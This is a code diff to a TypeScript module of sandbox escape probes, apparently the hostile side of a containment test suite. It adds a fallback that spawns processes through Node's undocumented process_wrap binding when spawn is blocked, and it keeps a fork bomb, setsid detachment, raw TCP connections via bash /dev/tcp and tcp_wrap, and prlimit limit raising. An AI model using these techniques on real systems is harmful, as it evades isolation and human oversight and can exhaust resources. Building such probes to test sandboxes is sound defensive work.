@@ -5,7 +5,7 @@ import { readdirSync, readFileSync, symlinkSync, writeFileSync, writeSync } from
 import { connect } from 'node:net';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
-import { parentPort } from 'node:worker_threads';
+import { isMainThread, parentPort } from 'node:worker_threads';
 import type { AttackTarget } from './attack-target.js';
 
 /**
@@ -51,20 +51,42 @@ export async function bufferBomb(): Promise<number> {
   return kept.length;
 }
 
-export async function forkBomb({ nonce }: AttackTarget): Promise<number> {
-  const children = Array.from({ length: 40 }, () => spawn('sleep', [sleepArgument(nonce)], { stdio: 'ignore' }));
-  for (const child of children) child.on('error', () => undefined);
+export async function forkBomb({ nonce }: AttackTarget): Promise<void> {
+  for (let i = 0; i < 40; i++) attempt(() => { launch(['sleep', sleepArgument(nonce)]); });
   await sleep(800);
-  return children.filter(({ pid }) => pid !== undefined).length;
 }
 
-export async function grandchild({ nonce }: AttackTarget): Promise<number | undefined> {
+export async function grandchild({ nonce }: AttackTarget): Promise<void> {
   // Its own session and no pipes: nothing ties it to who started it.
-  const child = spawn('setsid', ['sleep', sleepArgument(nonce)], { stdio: 'ignore', detached: true });
-  child.on('error', () => undefined);
-  child.unref();
-  await sleep(150);
-  return child.pid;
+  attempt(() => { launch(['setsid', 'sleep', sleepArgument(nonce)]); });
+  await sleep(300);
+}
+
+interface RawProcess {
+  onexit: () => void;
+  spawn(options: object): number;
+  unref(): void;
+}
+
+/** By the usual door, and where that is closed by the one behind it. */
+function launch([program = '', ...args]: readonly string[]): void {
+  try {
+    const child = spawn(program, args, { stdio: 'ignore', detached: true });
+    child.on('error', () => undefined);
+    child.unref();
+  } catch {
+    // Refused: what `spawn` is built on may not be.
+    const Process = binding('process_wrap')['Process'] as new () => RawProcess;
+    const child = new Process();
+    child.onexit = () => undefined;
+    child.spawn({ file: program, args: [program, ...args], detached: true, stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }] });
+    child.unref();
+  }
+}
+
+/** Node's own door to what it is built on: undocumented, and open to whoever runs in the process. */
+function binding(name: string): Readonly<Record<string, unknown>> {
+  return (process as unknown as { binding(name: string): Readonly<Record<string, unknown>> }).binding(name);
 }
 
 /** Ends by itself, and is told from every other by its fraction of a second. */
@@ -142,14 +164,9 @@ interface RawTcp {
 /** Past everything that replaces `net` and `fetch`: what they are built on, and a program that asks nobody. */
 export async function connectRaw({ addresses: octets, tcpPort, nonce }: AttackTarget): Promise<void> {
   for (const host of octets.map((numbers) => numbers.join('.'))) {
+    attempt(() => { launch(['bash', '-c', `exec 3<>/dev/tcp/${host}/${String(tcpPort)} && echo ${nonce} >&3`]); });
     attempt(() => {
-      const script = `exec 3<>/dev/tcp/${host}/${String(tcpPort)} && echo ${nonce} >&3`;
-      spawn('bash', ['-c', script], { stdio: 'ignore' }).on('error', () => undefined);
-    });
-    attempt(() => {
-      // Node's own door to sockets: undocumented, and open to whoever runs in the process.
-      const binding = (process as unknown as { binding(name: string): Record<string, new (kind: number) => RawTcp> }).binding('tcp_wrap');
-      const [Tcp, Request] = [binding['TCP'], binding['TCPConnectWrap']];
+      const { TCP: Tcp, TCPConnectWrap: Request } = binding('tcp_wrap') as Record<string, new (kind: number) => RawTcp>;
       if (Tcp !== undefined && Request !== undefined) new Tcp(0).connect(new Request(0), host, tcpPort);
     });
   }
@@ -189,7 +206,7 @@ export async function raiseLimits(): Promise<void> {
     // As high as they go without rights, and then higher.
     for (const name of ['fsize', 'cpu', 'data', 'as', 'nproc']) {
       const script = `hard=$(prlimit --pid $1 --${name} -o HARD --noheadings); prlimit --pid $1 --${name}=$hard:$hard; prlimit --pid $1 --${name}=unlimited:unlimited`;
-      spawn('sh', ['-c', script, 'sh', String(process.pid)], { stdio: 'ignore' }).on('error', () => undefined);
+      launch(['sh', '-c', script, 'sh', String(process.pid)]);
     }
   });
   await sleep(700);
@@ -239,7 +256,8 @@ function say(...messages: readonly unknown[]): void {
     attempt(() => parentPort?.postMessage(message));
     attempt(() => process.send?.(message));
     const bytes = typeof message === 'string' ? `${message}\n` : JSON.stringify(message);
-    for (const fd of [3, 4, 5]) attempt(() => writeSync(fd, bytes));
+    // In a thread, these are its parent's own, and lead nowhere.
+    if (isMainThread) for (const fd of [3, 4, 5]) attempt(() => writeSync(fd, bytes));
   }
 }
 
